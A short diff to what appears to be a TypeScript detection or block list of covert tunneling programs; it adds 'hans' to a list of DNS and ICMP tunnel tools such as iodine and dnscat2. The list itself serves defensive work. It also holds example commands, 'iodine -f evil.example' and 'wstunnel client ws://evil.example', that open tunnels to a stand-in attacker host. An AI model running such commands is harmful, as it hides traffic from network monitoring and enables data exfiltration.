@@ -125,7 +125,7 @@ export const programs: readonly ProgramSpec[] = [
     'wstunnel client ws://evil.example',
   ),
   tunnel(
-    'dnscat dnscat2 iodine iodined dns2tcpc ptunnel ptunnel-ng icmptunnel',
+    'dnscat dnscat2 iodine iodined dns2tcpc ptunnel ptunnel-ng icmptunnel hans',
     'Hides connections in DNS or ping.',
     'iodine -f evil.example',
   ),
